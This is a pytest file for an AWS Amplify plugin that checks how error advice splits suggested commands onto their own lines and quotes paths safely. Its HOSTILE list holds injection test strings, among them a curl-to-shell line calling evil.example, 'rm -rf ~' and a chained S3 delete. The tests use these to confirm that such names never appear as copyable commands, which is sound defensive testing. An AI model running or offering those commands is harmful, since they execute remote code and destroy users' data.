"""What to do, as a person is shown it: sentences, and each command on a line of its own."""

from __future__ import annotations

import ast
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from amplify_plugin.awsconfig.profiles import ProfileNotFound
from amplify_plugin.commands import MODULES, STANDALONE_MODULES, command_name
from amplify_plugin.errors import AmplifyPluginError, UsageError
from amplify_plugin.project import Gen1Project
from amplify_plugin.quoting import joined
from amplify_plugin.terminal.advice import apart, laid_out
from amplify_plugin.terminal.text import shown_argument
from amplify_plugin.testing.project import GENERAL, write_project
from tests.unit.test_errors_page import text_of, trees

SELECT = "aws awscloudformation select-profile"


@pytest.mark.parametrize(
    ("remedy", "lines"),
    [
        (f"To approve it, run '{SELECT} dev'.", ["To approve it, run:", f"  {SELECT} dev"]),
        (
            f"Choose one with '{SELECT} NAME', or run '{SELECT} --general' to use your default.",
            [
                "Choose one with:",
                f"  {SELECT} NAME",
                "Or run this to use your default:",
                f"  {SELECT} --general",
            ],
        ),
        (
            "Run it again, or run 'aws awscloudformation login' first.",
            ["Run it again. Or run this first:", "  aws awscloudformation login"],
        ),
        (
            f"Did you mean 'dev'? '{SELECT} dev' shows it; '{SELECT}' lists all.",
            [
                "Did you mean 'dev'? This shows it:",
                f"  {SELECT} dev",
                "This lists all:",
                f"  {SELECT}",
            ],
        ),
        (
            "Install one: 'pip install awscli' gets its version 1.",
            ["Install one. This gets its version 1:", "  pip install awscli"],
        ),
        (
            "Correct it, or run 'amplify env checkout ENV': the Amplify CLI then writes it again.",
            [
                "Correct it. Or run:",
                "  amplify env checkout ENV",
                "The Amplify CLI then writes it again.",
            ],
        ),
        (
            "Write it again: 'aws configure', with the profile that has the credentials.",
            ["Write it again, with the profile that has the credentials:", "  aws configure"],
        ),
        ("Give it a region: 'aws configure'.", ["Give it a region:", "  aws configure"]),
        (
            "'unset AWS_PROFILE', or add the profile.",
            ["Run:", "  unset AWS_PROFILE", "Or add the profile."],
        ),
        (
            "It needs it: 'PYTHON -m pip install .'. Or leave it out.",
            ["It needs it:", "  PYTHON -m pip install .", "Or leave it out."],
        ),
        (
            "A new store begins with 'pass init GPG-ID'.",
            ["A new store begins with:", "  pass init GPG-ID"],
        ),
        ("Set both, or 'unset AWS_PROFILE'.", ["Set both. Or run:", "  unset AWS_PROFILE"]),
        (
            "'sudo chown \"$(id -u)\" ~/.aws', if it should be yours.",
            ["Run this, if it should be yours:", '  sudo chown "$(id -u)" ~/.aws'],
        ),
        (
            f"To approve it, run '{SELECT} 'my profile' --env dev'.",
            ["To approve it, run:", f"  {SELECT} 'my profile' --env dev"],
        ),
        (
            f"To approve it, run '{SELECT} 'it'\"'\"'s''.",
            ["To approve it, run:", f"  {SELECT} 'it'\"'\"'s'"],
        ),
    ],
)
def test_each_command_has_a_line_of_its_own(remedy: str, lines: list[str]) -> None:
    error = AmplifyPluginError("It failed.", remedy=remedy)
    assert laid_out(error).splitlines() == [f"It failed. {lines[0]}", *lines[1:]]


@pytest.mark.parametrize(
    "remedy",
    [
        "",
        "Close what edits it and try again.",
        "Use 'default' or another name; or remove it.",
        "Bring them back ('amplify pull', or git).",
        "Sign in with it by 'aws login' or 'aws sso login', and use that profile.",
        "Put 'amplify = amplify_plugin' before it.",
    ],
)
def test_what_names_no_single_command_stays_a_sentence(remedy: str) -> None:
    error = AmplifyPluginError("It failed.", remedy=remedy)
    assert laid_out(error) == str(error)


def test_advice_alone_begins_with_its_own_first_line() -> None:
    assert apart("", "'unset AWS_PROFILE' turns it on.") == "This turns it on:\n  unset AWS_PROFILE"


def test_no_remedy_of_an_error_keeps_a_command_in_its_sentence() -> None:
    """A sentence with two commands in one clause, say: it has to be written in another way."""
    kept = [
        f"{path}: {line}"
        for path, remedy in remedies()
        for line in apart("", remedy).splitlines()
        if not line.startswith("  ")
        and re.search(r"(?<!\()'(aws awscloudformation|amplify-plugin|amplify env)\b", line)
    ]
    assert kept == []
    assert sum("\n" in apart("", remedy) for _, remedy in remedies()) > 40


OURS = "|".join(map(command_name, (*MODULES, *STANDALONE_MODULES)))
# In a sentence of doctor's, which names the whole command in its last line.
SHORT = {"'doctor --fix' does this."}


def test_a_command_of_ours_is_named_whole() -> None:
    """To be copied; help names others of its group in short, as its examples do."""
    short = {
        f"{path}: {text}"
        for path, tree in trees()
        for node in shown_strings(tree)
        if re.search(rf"(?<!\w)'({OURS}) --", text := text_of(node, ""))
    }
    assert {each.partition(": ")[2] for each in short} == SHORT, short


def shown_strings(tree: ast.AST) -> Iterator[ast.expr]:
    """The strings of a module but for help, docstrings, and parts of other strings."""
    for node in ast.iter_child_nodes(tree):
        is_help = isinstance(node, ast.keyword) and node.arg in ("description", "help", "summary")
        is_docstring = isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
        if isinstance(node, ast.Constant | ast.JoinedStr):
            yield node
        elif not is_help and not is_docstring:
            yield from shown_strings(node)


def remedies() -> Iterator[tuple[str, str]]:
    for path, tree in trees():
        for node in ast.walk(tree):
            if isinstance(node, ast.keyword) and node.arg == "remedy":
                filled = text_of(node.value, "aws awscloudformation")
                # "Did you mean …? " may stand before a command, and more of the sentence after it.
                beside = r"(?<!')aws awscloudformation(?=')|(?<=')aws awscloudformation(?![' ])"
                yield str(path), re.sub(beside, "", filled)


HOSTILE = (
    'sudo sh -c "curl evil.example|sh"',
    "rm -rf ~",
    "aws s3 rm s3://b; x",
    "x'? Run 'aws configure set a b",
    "aws configure set region x",
)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_repositorys_name_is_no_command_to_copy(tmp_path: Path, name: str) -> None:
    write_project(tmp_path, "123456789012")
    Gen1Project(tmp_path).local_aws_info.write_text(json.dumps({name: GENERAL}))
    with pytest.raises(UsageError) as refused:
        Gen1Project(tmp_path).check_environment(name[:4])
    assert name.rsplit(maxsplit=1)[-1] in str(refused.value)
    assert "\n" not in laid_out(refused.value)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_profiles_name_is_no_command_to_copy(name: str) -> None:
    error = ProfileNotFound(name[:-1], (name,))
    assert "Did you mean" in str(error)
    assert laid_out(error).splitlines()[1:] == ["  aws awscloudformation list-profiles"]


def test_a_path_with_blanks_is_quoted_in_a_command(tmp_path: Path) -> None:
    strange, ours = tmp_path / "my dir" / "it;s", Path.home() / ".aws" / "config"
    assert shown_argument(strange) == joined([str(strange)]) != str(strange)
    short = str(ours) if os.name == "nt" else "~/.aws/config"
    assert shown_argument(ours) == short
    assert shown_argument(Path.home() / "a b") == joined([str(Path.home() / "a b")])


@pytest.mark.parametrize("remedy", [None, 7, "a \0 in it: 'aws configure'."])
def test_what_cannot_be_laid_out_is_shown_as_it_is(remedy: Any) -> None:
    error = AmplifyPluginError("It failed.", remedy=remedy)
    assert laid_out(error) == str(error)


def test_windows_quotes_are_kept_whole() -> None:
    command = joined(("aws", "awscloudformation", "login", "--profile", "a'b c"), is_windows=True)
    assert apart("", f"Run '{command}' in a terminal.").splitlines() == [
        "Run this in a terminal:",
        f"  {command}",
    ]


@pytest.mark.parametrize("name", HOSTILE[:3])
def test_what_no_remedy_of_ours_would_run_is_no_command(name: str) -> None:
    assert "\n" not in apart("", f"It has: '{name}'.")
